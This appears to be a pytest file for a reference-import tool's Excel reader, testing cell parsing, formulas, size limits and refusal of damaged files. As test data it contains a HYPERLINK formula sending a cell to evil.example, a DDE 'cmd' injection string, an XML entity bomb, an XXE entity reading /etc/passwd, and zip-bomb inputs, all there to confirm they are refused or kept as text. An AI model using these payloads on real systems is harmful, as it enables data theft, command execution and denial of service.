"""Workbooks: the sheet of references, cells as they are read by eye, and what is refused."""

import datetime
import io
import tracemalloc
import zipfile

import pytest
import xlsxwriter
from openpyxl import Workbook

from screening.references.formats import Limits, ReadError, preview, read, spreadsheet


def book(*rows, sheet: str = "Sheet1", **others) -> bytes:
    """A workbook of a sheet with these rows, and other sheets by name."""
    workbook = Workbook()
    workbook.active.title = sheet
    for row in rows:
        workbook.active.append(row)
    for name, cells in others.items():
        page = workbook.create_sheet(name)
        for row in cells:
            page.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def with_shared_strings() -> bytes:
    """A workbook as spreadsheet programs write it: its strings in a part of their own."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as workbook:
        sheet = workbook.add_worksheet()
        sheet.write_row(0, 0, HEADER)
        sheet.write_row(1, 0, ["One", "Able A", 2019])
    return out.getvalue()


def changed(data: bytes, part: str, change) -> bytes:
    """The workbook with the text of one part changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            content = old.read(info)
            new.writestr(info.filename, change(content.decode()).encode() if info.filename == part else content)
    return out.getvalue()


def refusal(data: bytes, **said) -> str:
    with pytest.raises(ReadError) as caught:
        read(data, **said)
    return str(caught.value)


HEADER = ["Title", "Authors", "Year", "DOI", "Abstract"]
SHEET = "xl/worksheets/sheet1.xml"


def test_a_sheet_of_references():
    reading = read(book(HEADER, ["One", "Able A; Bell B", 2019, "10.1000/x", "Aim.\nResult."], [], ["Two", None, "2020", "", ""]))
    one, two = reading.records
    assert (reading.format, reading.encoding, reading.layout) == ("XLSX", "", "")
    assert (one.title, one.authors, one.year, one.doi, one.abstract) == ("One", ["Able A", "Bell B"], 2019, "10.1000/x", "Aim. Result.")
    assert (one.line, one.ordinal, two.line, two.ordinal) == (2, 1, 4, 2)
    assert one.raw == 'One,Able A; Bell B,2019,10.1000/x,"Aim.\nResult."\n'
    assert (two.title, two.year, two.warnings) == ("Two", 2020, [])


def test_numbers_and_dates_as_they_are_read_by_eye():
    (record,) = read(
        book(["Title", "PMID", "Date", "Volume", "Share"], ["One", 28685503.0, datetime.datetime(2019, 5, 1), 7.0, 0.5])
    ).records
    assert (record.pmid, record.year, record.volume) == ("28685503", 2019, "7")
    assert record.extra == {"Share": ["0.5"]}


def test_rows_above_the_column_names():
    reading = read(book(["Search of 1 May"], [], HEADER, ["One", "", 2019, "", ""]))
    assert reading.warnings == ["2 rows above the column names passed over."]
    assert reading.records[0].line == 4


def test_the_sheet_with_titles_is_read_and_the_others_are_named():
    reading = read(
        book(["About", "this file"], sheet="Notes", References=[HEADER, ["One", "", 2019, "", ""]], More=[["Title", "Year"], ["Two", 1]])
    )
    assert [record.title for record in reading.records] == ["One"]
    assert reading.warnings == [
        "The sheet “References” was read; not read: “Notes”, “More”. To import one of them, save it as a file of its own."
    ]
    assert preview(book(HEADER, ["One"], Empty=[])).sheet == "Sheet1"


def test_a_person_chooses_the_columns_of_a_sheet():
    data = book(["Heading", "Who"], ["Peer support in wards", "Able A"])
    assert not preview(data).sure
    assert "no column of its sheet holds titles (found: “Heading”, “Who”)" in refusal(data)
    (record,) = read(data, columns={"Heading": "title", "Who": "authors"}).records
    assert (record.title, record.authors) == ("Peer support in wards", ["Able A"])


def test_what_is_shown_of_a_sheet():
    shown = preview(book(HEADER, *[[f"Title {n}", "Able A", 2000 + n, "", ""] for n in range(9)]))
    assert (shown.header, shown.sure, len(shown.rows)) == (HEADER, True, 5)
    assert shown.rows[0] == ["Title 0", "Able A", "2000", "", ""]
    assert shown.digest == preview(b"title,authors,year,doi,abstract\nOne,,,,\n").digest


# Formulas: the stored value, or the text; never computed


def test_a_formula_gives_its_stored_value():
    data = book(HEADER, ["One", "Able A", "=2000+19", "", ""])
    data = changed(
        data, SHEET, lambda xml: xml.replace("<v></v>", "<v>2019</v>").replace("<v />", "<v>2019</v>").replace("<v/>", "<v>2019</v>")
    )
    assert read(data).records[0].year == 2019


def test_a_formula_without_a_stored_value_stays_text():
    data = book(HEADER, ['=HYPERLINK("http://evil.example/"&A3,"One")', "Able A", 2019, "", "=1+1"], ["Two", "", "", "", ""])
    one, two = read(data).records
    assert one.title == '=HYPERLINK("http://evil.example/"&A3,"One")'
    assert (one.abstract, one.year, two.title) == ("=1+1", 2019, "Two")


@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2"])
def test_text_that_looks_like_a_formula_in_a_csv_is_text(text):
    (record,) = read(f'title,abstract\nOne,"{text}"\n'.encode()).records
    assert record.abstract == text


def test_errors_of_the_spreadsheet_are_told_and_not_kept_as_values():
    data = book(HEADER, ["One", "Able A", 2019, "#N/A", "#NAME?"])
    (record,) = read(data).records
    assert (record.doi, record.abstract) == ("", "")
    assert record.warnings == ["A cell holds the spreadsheet's error #N/A in place of its value."]


def test_strings_in_a_part_of_their_own():
    (record,) = read(with_shared_strings()).records
    assert (record.title, record.authors, record.year) == ("One", ["Able A"], 2019)


# Bounds


def test_the_size_a_sheet_declares_is_not_believed():
    data = changed(
        book(HEADER, ["One", "", 2019, "", ""]), SHEET, lambda xml: xml.replace('<dimension ref="A1:E2"', '<dimension ref="A1:XFD1048576"')
    )
    assert len(read(data).records) == 1


def test_a_row_far_below_and_a_cell_far_right_cost_nothing(monkeypatch):
    monkeypatch.setattr(spreadsheet, "MAX_ROW", 10_000)
    far = '<row r="900000000"><c r="A900000000" t="inlineStr"><is><t>Far</t></is></c></row></sheetData>'
    data = changed(book(HEADER, ["One", "", 2019, "", ""]), SHEET, lambda xml: xml.replace("</sheetData>", far))
    assert [record.title for record in read(data).records] == ["One"]
    wide = book(HEADER, ["One", "", 2019, "", "", *[""] * (spreadsheet.SPARE - 2), "note", *[""] * 100, "far"])
    assert read(wide).records[0].extra == {"(more cells)": ["note"]}


def test_too_many_rows_are_refused():
    data = book(HEADER, *[["One", "", 2019, "", ""]] * 30)
    assert len(read(data, limits=Limits(records=30)).records) == 30
    assert "more than 29 records" in refusal(data, limits=Limits(records=29))


def test_a_preview_keeps_to_the_limits_of_reading():
    data = book(HEADER, *[["One", "", 2019, "", ""]] * 3000)
    assert preview(data).rows and preview(data, limits=Limits(records=3000)).rows
    with pytest.raises(ReadError):
        preview(data, limits=Limits(unpacked=1000))


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "[Content_Types].xml"])
def test_entity_bombs_are_refused(part):
    data = changed(with_shared_strings(), part, lambda xml: BOMB + xml.partition("?>")[2])
    tracemalloc.start()
    try:
        sentence = refusal(data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "The Excel workbook" in sentence
    assert "Save it again" in sentence
    assert peak < 20_000_000


def test_an_entity_that_names_a_file_is_refused():
    outside = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    data = changed(book(HEADER, ["One", "", 2019, "", ""]), SHEET, lambda xml: outside + xml.replace("</sheetData>", "&f;</sheetData>"))
    assert "Save it again" in refusal(data)


def test_a_workbook_that_would_unpack_to_too_much_is_refused_before():
    data = changed(
        book(HEADER, ["One", "", 2019, "", ""]), SHEET, lambda xml: xml.replace("</sheetData>", " " * 60_000_000 + "</sheetData>")
    )
    assert len(data) < 200_000
    tracemalloc.start()
    try:
        sentence = refusal(data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "would unpack to" in sentence
    assert peak < 5_000_000


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        (SHEET, "</row>", '<c r="B1"/>' * 600_000 + "</row>"),
        ("xl/sharedStrings.xml", "</sst>", "<si><t>x</t></si>" * 3_100_000 + "</sst>"),
        ("xl/styles.xml", "</cellXfs>", "<xf/>" * 90_000 + "</cellXfs>"),
    ],
    ids=["one row", "strings", "styles"],
)
def test_a_part_of_more_pieces_than_memory_should_hold_is_refused(part, old, new, monkeypatch):
    monkeypatch.setattr(spreadsheet, "_load", None)
    data = changed(with_shared_strings(), part, lambda xml: xml.replace(old, new, 1))
    assert "holds more than any table of references" in refusal(data, limits=Limits(ratio=1000))


@pytest.mark.parametrize("keep", [40, 400, 2000, 4000])
def test_a_workbook_cut_short_is_refused(keep):
    data = book(HEADER, *[["One", "", 2019, "", ""]] * 200)
    assert "damaged" in refusal(data[:keep])


def test_a_workbook_with_a_broken_sheet_is_refused():
    data = changed(book(HEADER, ["One", "", 2019, "", ""]), SHEET, lambda xml: xml[:-40])
    assert "cannot be opened" in refusal(data)


def test_an_empty_workbook():
    assert "The Excel workbook is empty" in refusal(book())
    assert "holds no record" in refusal(book(HEADER))


def test_every_byte_flipped_is_read_or_refused():
    data = book(HEADER, ["One", "Able A", 2019, "10.1000/x", "=1"])
    for at in range(0, len(data), 41):
        wrong = data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]
        for act in (read, preview):
            try:
                act(wrong)
            except ReadError as error:
                assert str(error).endswith(".")
